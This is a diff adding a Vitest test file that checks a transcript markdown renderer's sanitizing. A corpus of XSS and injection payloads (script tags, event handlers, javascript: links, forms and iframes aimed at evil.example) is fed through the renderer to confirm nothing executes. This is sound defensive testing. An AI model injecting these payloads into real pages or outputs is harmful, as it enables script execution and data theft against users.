@@ -1,0 +1,113 @@
+import { describe, expect, it, onTestFinished } from 'vitest'
+import { makeMarkdownView } from '../../../src/ui/transcript/markdown.ts'
+
+function mount(): { host: HTMLElement; view: ReturnType<typeof makeMarkdownView> } {
+  const host = document.createElement('div')
+  document.body.append(host)
+  const view = makeMarkdownView(host)
+  onTestFinished(() => {
+    view.dispose()
+    host.remove()
+  })
+  return { host, view }
+}
+const settled = async (host: HTMLElement): Promise<void> => {
+  for (let before = ''; before !== host.innerHTML; ) {
+    before = host.innerHTML
+    await new Promise((resolve) => setTimeout(resolve, 60))
+  }
+}
+
+const CORPUS = [
+  '<script>window.pwned = 1</script>',
+  '<img src=x onerror="window.pwned=1">',
+  '![x](https://tracker.example/a.png)',
+  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
+  '[x](javascript:window.pwned=1)',
+  '[x](JaVaScRiPt:window.pwned=1)',
+  '[x](java&#10;script:window.pwned=1)',
+  '[x](data:text/html,<script>window.pwned=1</script>)',
+  '[x](vbscript:msgbox)',
+  '<a href="javascript:window.pwned=1">x</a>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<form action="https://evil.example"><input name=a><button>Send</button></form>',
+  '<style>body{display:none}</style>',
+  '<p style="position:fixed" id="root" class="app">x</p>',
+  '<svg><script>window.pwned=1</script></svg>',
+  '<math><mtext><style><img src=x onerror=window.pwned=1></style></mtext></math>',
+  '<details open ontoggle="window.pwned=1">x</details>',
+  '<b onmouseover="window.pwned=1">x</b>',
+  '<link rel=stylesheet href=https://evil.example/a.css>',
+  '<base href=https://evil.example>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<object data=https://evil.example></object><embed src=https://evil.example>',
+  '```html\n<script>window.pwned=1</script>\n```',
+  '`<img src=x onerror=window.pwned=1>`',
+  '| <img src=x onerror=window.pwned=1> | b |\n| --- | --- |\n| <script>window.pwned=1</script> | [x](javascript:window.pwned=1) |',
+  '[x]: javascript:window.pwned=1\n\n[x]',
+  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
+  '<input autofocus onfocus=window.pwned=1>',
+]
+const ALLOWED =
+  /^(P|BR|HR|H[2-6]|EM|STRONG|DEL|CODE|PRE|BLOCKQUOTE|UL|OL|LI|A|TABLE|THEAD|TBODY|TR|TH|TD|B|I|U|S|KBD|SUB|SUP|MARK|SMALL|INS|DIV|SPAN|FIGURE|FIGCAPTION|BUTTON)$/
+
+describe('text of a model is inert', () => {
+  it.each(CORPUS)('%s', async (text) => {
+    const { host, view } = mount()
+    // whole, and as it would come in: every prefix is rendered too
+    view.update(text, false)
+    for (let end = 1; end <= text.length; end += 3) view.update(text.slice(0, end), true)
+    view.update(text, false)
+    await settled(host)
+    expect((window as { pwned?: number }).pwned).toBeUndefined()
+    for (const element of host.querySelectorAll('*')) {
+      expect(element.tagName).toMatch(ALLOWED)
+      for (const { name, value } of element.attributes) {
+        expect(name).not.toMatch(/^on|^style$|^id$|^src/)
+        if (name === 'href') expect(value).toMatch(/^(https?|mailto):/i)
+      }
+    }
+  })
+})
+
+it('links open elsewhere, tell nothing, and say where they lead', () => {
+  const { host, view } = mount()
+  view.update('[Docs](https://docs.example/a) and https://other.example/b', false)
+  const [first, second] = host.querySelectorAll('a')
+  expect(first?.textContent).toBe('Docs (docs.example)')
+  expect(first?.target).toBe('_blank')
+  expect(first?.rel).toBe('noopener noreferrer')
+  expect(second?.textContent).toBe('https://other.example/b')
+})
+
+it('an image is a link with its host, and nothing is fetched', () => {
+  const { host, view } = mount()
+  view.update('![A map](https://maps.example/m.png)', false)
+  expect(host.querySelector('img')).toBeNull()
+  expect(host.textContent?.trim()).toBe('Image: A map (maps.example)')
+})
+
+const TEXT = `# Head\n\nA *b* [ref] c\nlazy\n\n- one\n- two\n\n  more\n\n\`\`\`js\nlet a = '\`\`'\n\n\n// x\n\`\`\`\nafter\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n> quote\n> more\n\n1. x\n   \`\`\`\n   in list\n   \`\`\`\n2. y\n\nSetext\n===\n\n***\n\nlast **bold\n\n[ref]: https://example.org\n`
+
+it.each([1, 2, 3, 7, 50])('text that came in pieces of %i looks as if it had come at once', async (size) => {
+  const whole = mount()
+  whole.view.update(TEXT, false)
+  const pieces = mount()
+  for (let end = size; end < TEXT.length; end += size) pieces.view.update(TEXT.slice(0, end), true)
+  pieces.view.update(TEXT, false)
+  await settled(pieces.host)
+  await settled(whole.host)
+  expect(pieces.host.innerHTML).toBe(whole.host.innerHTML)
+})
+
+it('a very long paragraph, list and code block lose nothing', async () => {
+  const words = Array.from({ length: 30_000 }, (_, n) => `w${n}`).join(' ')
+  const items = Array.from({ length: 4000 }, (_, n) => `- item ${n}`).join('\n')
+  const code = Array.from({ length: 4000 }, (_, n) => `line ${n}`).join('\n')
+  const { host, view } = mount()
+  view.update(`${words}\n\n${items}\n\n\`\`\`\n${code}\n\`\`\`\n`, false)
+  await expect.poll(() => host.querySelector('code')?.textContent, { timeout: 10_000 }).toBe(code)
+  expect(host.querySelectorAll('li').length).toBe(4000)
+  const text = [...host.querySelectorAll('p')].map((p) => p.textContent).join(' ')
+  expect(text.split(/\s+/).length).toBe(30_000)
+})
